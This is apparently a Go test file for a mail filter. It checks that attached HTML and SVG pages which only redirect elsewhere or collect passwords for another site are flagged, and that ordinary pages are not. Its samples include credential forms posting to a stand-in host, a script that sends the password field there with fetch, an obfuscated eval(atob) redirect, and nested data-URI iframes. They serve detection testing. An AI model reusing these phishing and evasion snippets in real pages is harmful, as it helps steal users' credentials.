package extract

import (
	"encoding/base64"
	"net/url"
	"slices"
	"strings"
	"testing"

	"sluis/filter/text"
)

// A page that is attached and does nothing but lead elsewhere, or asks for a password that another site gets, acts
// (C3.3a).
func TestAPageThatOnlyLeadsElsewhereActs(t *testing.T) {
	const goes = `<script>location="https://a.example/in"</script>`
	digits := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	frame := func(s string) string { return `<iframe src="data:text/html;base64,` + digits(s) + `"></iframe>` }
	const fields = `<h2>Aanmelden</h2><input name=u type=email><input name=p type=password>`
	for name, page := range map[string]string{
		"a refresh":             `<meta http-equiv="refresh" content="0;url=https://a.example/in">`,
		"a refresh in quotes":   `<META HTTP-EQUIV=Refresh CONTENT="1 ; URL='//a.example/in'">Een ogenblik`,
		"a refresh, no word":    `<meta http-equiv=" refresh" content="0 https://a.example/in">`,
		"a refresh from a base": `<base href="https://a.example/"><meta http-equiv=refresh content="0;url=in">`,
		"a script":              goes,
		"a script in pieces":    `<body onload="window.location.replace('https://a.exa' + 'mple/in')">Even wachten`,
		"a script in a while":   `<script>setTimeout(function(){top.location.href = "https://a.example";},500)</script>`,
		"a script with a name":  "<script>const naar=`https://a.example`; window.location = naar</script>",
		"a window":              `<script>window.open("https://a.example/in","_self")</script>`,
		"a link that is used":   `<a id=a href="https://a.example"></a><script>document.getElementById("a").click()</script>`,
		"a form that is sent":   `<form id=f action="https://a.example"></form><script>f.submit()</script>`,
		"a picture that fails":  `<img src=x onerror="location='https://a.example'">`,
		"a hidden script in it": `<img src=x onerror="eval(atob('` + digits(`location="https://a.example/x"`) + `'))">`,
		"another's script":      `<html><body><script src="https://a.example/a.js"></script>`,
		"another's script, //":  `<script src=//a.example/a.js></script><noscript>Zet JavaScript aan</noscript>`,
		"another's module":      `<script type=module>import("https://a.example/a.js")</script>`,
		"another's page":        `<iframe src="https://a.example" style="height:100vh; width:100%"></iframe>`,
		"another's object":      `<object data="https://a.example/in" type="text/html"></object>`,
		"a page in an address":  frame(goes),
		"one in another":        frame(frame(goes)),
		"one in letters":        `<iframe src="data:text/html,` + url.PathEscape(goes) + `"></iframe>`,
		"a sign-in":             `<form action="https://a.example" method=post>` + fields + `</form>`,
		"a sign-in by a button": `<form>` + fields + `<button formaction="//a.example/p">Volgende</button></form>`,
		"a sign-in by a script": `<form onsubmit="go()">` + fields + `</form><script>function go(){fetch("https://a.example",` +
			`{method:"POST",body:p.value})}</script>`,
		"a sign-in, other words": `<form action="https:\\a.example"><input name=u><input name=wachtwoord></form>`,
		"a sign-in with words": strings.Repeat("<p>Meld je aan om het document te lezen.", 20) +
			`<form action="https://a.example">` + fields,
	} {
		t.Run(name, func(t *testing.T) {
			s := showDocument(t, "document.html", []byte(page))
			if !acts(s.report) {
				t.Errorf("%+v does not act", s.report.Attachments)
			}
		})
	}
	for name, drawing := range map[string]string{
		"a sign-in": `<foreignObject><form action="https://a.example"><input type="password"/></form></foreignObject>`,
		"a refresh": `<foreignObject><h:meta xmlns:h="http://www.w3.org/1999/xhtml" ` +
			`http-equiv="refresh" content="0;url=https://a.example"/></foreignObject>`,
	} {
		s := showDocument(t, "logo.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg">`+drawing+`</svg>`))
		if !acts(s.report) {
			t.Errorf("a drawing with %s does not act", name)
		}
	}
}

// Pages that are saved, lessons and pupils' work do some of that beside what they show.
func TestPagesThatShowSomethingDoNotAct(t *testing.T) {
	story := strings.Repeat("<p>De gemeenteraad heeft besloten dat de bibliotheek in het centrum blijft.</p>", 40)
	for name, page := range map[string]string{
		"a page that is saved": `<script src="https://cdn.example/j.js"></script><form action="https://www.example/in">` +
			`<input type=password></form>` + story + `<iframe srcdoc="<script src='https://ads.example/a.js'></script>"></iframe>` +
			`<script>function naar(){location.href="https://www.example/"}</script>`,
		"a page that is renewed":     `<meta http-equiv="refresh" content="1800">Vertrektijden`,
		"a page that has moved":      `<meta http-equiv="refresh" content="0; url=index/start.html">`,
		"a link to a new site":       `<p>Onze site is verhuisd. <a href="https://www.school.example/">Klik hier</a>.</p>`,
		"a drawing in a library":     `<script src="https://cdn.example/p5.js"></script><main></main><script>function draw(){circle(20,20,9)}</script>`,
		"a drawing beside its file":  `<script src="https://cdn.example/p5.js"></script><script src="sketch.js"></script>`,
		"a quiz":                     `<form onsubmit="return kijk()"><input id=a> + 3 = 10<button>Kijk na</button></form><script>function kijk(){alert(a.value==7);return false}</script>`,
		"a lesson on forms":          `<h1>Les 4</h1><form action="login.php"><input name=naam><input type=password name=ww></form>`,
		"a film in a lesson":         `<h1>Filmpje</h1><p>Bekijk de video.</p><iframe width=560 src="https://www.youtube-nocookie.com/embed/abc"></iframe>`,
		"a button to a site":         `<button onclick="location.href='https://www.school.example'">Naar de site</button>`,
		"a mail that is encrypted":   `<p>Dit bericht is versleuteld.</p><form action="https://outlook.office365.com/e" method=post><input type=hidden name=a value=b><button>Lees het bericht</button></form>`,
		"a form that asks no secret": `<form action="https://docs.example/f"><input name=q></form>`,
	} {
		t.Run(name, func(t *testing.T) {
			if s := showDocument(t, "pagina.html", []byte(page)); acts(s.report) {
				t.Errorf("%+v acts", s.report.Attachments)
			}
		})
	}
	letter := "Content-Type: text/html\n\n" + `<p>Dag</p><form action="https://a.example"><input type=password></form>`
	if s := showMessage(t, letter); acts(s.report) {
		t.Error("the text of a message acts: mail programs run nothing in it")
	}
}

// acts reports whether a file of a report does something when it is opened.
func acts(r *text.Report) bool {
	return slices.ContainsFunc(r.Attachments, func(a text.Attachment) bool { return a.Macros })
}
